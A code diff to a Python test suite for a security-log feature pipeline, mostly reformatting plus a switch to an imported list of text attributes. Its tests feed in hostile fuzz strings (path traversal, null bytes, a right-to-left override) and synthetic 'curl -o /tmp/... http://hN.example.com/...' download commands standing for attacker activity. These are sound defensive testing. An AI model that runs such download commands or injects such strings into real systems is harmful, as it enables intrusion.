@@ -1,4 +1,4 @@
-"""From events to value columns: one meaning whatever the chunk, and nothing of an attacker's text as it stands."""
+"""From events to value columns: one meaning whatever the chunk, and no attacker's text as it stands."""
 
 from __future__ import annotations
 
@@ -12,7 +12,14 @@ from features.behaviours import COLUMN, VALUE_COLUMNS
 from features.columns import Batch, Columniser, concatenated
 from features.enrich import GeoDatabase
 from features.entities import Entities
-from features.events import API_ACTIVITY, AUTHENTICATION, NETWORK_ACTIVITY, PROCESS_ACTIVITY, Event
+from features.events import (
+    API_ACTIVITY,
+    AUTHENTICATION,
+    NETWORK_ACTIVITY,
+    PROCESS_ACTIVITY,
+    TEXT_ATTRIBUTES,
+    Event,
+)
 from features.identity import IdentityResolver
 from features.interner import StringTable
 from features.rows import PARTS, empty_rows, put_events
@@ -40,7 +47,9 @@ class Tenant:
         found = []
         for row in made.columns:
             texts = {
-                name: self.values[int(value)] for name, value in zip(VALUE_COLUMNS, row, strict=False) if value
+                name: self.values[int(value)]
+                for name, value in zip(VALUE_COLUMNS, row, strict=False)
+                if value
             }
             for kind, name in enumerate(("user", "host", "src_ip")):
                 entity = int(row[len(VALUE_COLUMNS) + kind])
@@ -104,17 +113,22 @@ def test_a_destination_is_its_name_or_else_its_address():
 
 def test_the_address_of_the_reporting_host_itself_is_no_source():
     tenant = Tenant()
-    made = tenant.batch(Event(time_us=NOW, host="10.0.0.5", src_ip="10.0.0.5"), Event(time_us=NOW, host="a", src_ip="10.0.0.5"))
+    made = tenant.batch(
+        Event(time_us=NOW, host="10.0.0.5", src_ip="10.0.0.5"),
+        Event(time_us=NOW, host="a", src_ip="10.0.0.5"),
+    )
     own, other = tenant.read(made)
     assert not {"src_ip", "src_net", "src_country", "src_ip!"} & own.keys()
     assert other["src_ip!"] == "10.0.0.5"
-    assert tenant.values.many(made.src_ip) == ["10.0.0.5", "10.0.0.5"], "the record's own address stays to be shown"
+    assert tenant.values.many(made.src_ip) == ["10.0.0.5", "10.0.0.5"], (
+        "the record's own address stays to be shown"
+    )
 
 
 def test_unresolved_users_are_resolved_from_their_parts():
     tenant = Tenant()
     assert tenant.one(user=PARTS.join(["", "Alice", "CORP", "", "WS1"]))["user!"] == "alice"
-    assert tenant.one(user=PARTS)== {"activity": "Base Event"}
+    assert tenant.one(user=PARTS) == {"activity": "Base Event"}
     assert tenant.one(user=PARTS.join(["", "Bob", "CORP", SID, "WS1", "too", "many"]))["user!"] == "bob"
 
 
@@ -172,7 +186,8 @@ def test_a_full_memo_is_emptied_by_itself(monkeypatch):
 def test_many_new_strings_and_pairs_at_once_are_all_resolved():
     tenant = Tenant()
     told = [
-        Event(time_us=NOW, user=f"user{number}", service=f"s{number % 300}", operation=f"Op{number}") for number in range(70_000)
+        Event(time_us=NOW, user=f"user{number}", service=f"s{number % 300}", operation=f"Op{number}")
+        for number in range(70_000)
     ]
     made = tenant.batch(*told)
     assert (made.columns[:, COLUMN["api"]] > 0).all()
@@ -184,13 +199,15 @@ def test_many_new_strings_and_pairs_at_once_are_all_resolved():
 HOSTILE = st.text(st.characters(codec=None), max_size=60) | st.sampled_from(
     ["\x00" * 5000, "A" * 200_000, "\ud800\udc00", PARTS * 40, "\u202e", "../" * 999, "%00", "\\\\?\\", "{}"]
 )
-TEXTS = ("user", "target_user", "host", "src_ip", "src_host", "dst_host", "dst_ip", "protocol", "process", "command",
-         "parent_process", "file", "operation", "service", "resource", "auth", "status_detail", "user_agent", "domain",
-         "cloud_region", "cloud_account")  # fmt: skip
+TEXTS = tuple(name for name in TEXT_ATTRIBUTES if name != "uid")
 
 
 @settings(max_examples=60)
-@given(st.dictionaries(st.sampled_from(TEXTS), HOSTILE), st.integers(-(2**31), 2**31 - 1), st.integers(0, 2**31 - 1))
+@given(
+    st.dictionaries(st.sampled_from(TEXTS), HOSTILE),
+    st.integers(-(2**31), 2**31 - 1),
+    st.integers(0, 2**31 - 1),
+)
 def test_hostile_text_gives_bounded_printable_values(fields, number, class_uid):
     found = Tenant().one(**fields, dst_port=number, activity_id=number, status_id=number, class_uid=class_uid)
     for name, value in found.items():
@@ -202,7 +219,11 @@ def test_values_of_an_attacker_are_few():
     """A thousand names made by counting up give few shapes of command and file."""
     tenant = Tenant()
     told = [
-        Event(time_us=NOW, command=f"curl -o /tmp/x{number} http://h{number}.example.com/{number}", file=f"/tmp/a/b/x{number}.dat")
+        Event(
+            time_us=NOW,
+            command=f"curl -o /tmp/x{number} http://h{number}.example.com/{number}",
+            file=f"/srv/a/b/x{number}.dat",
+        )
         for number in range(1000)
     ]
     made = tenant.batch(*told)
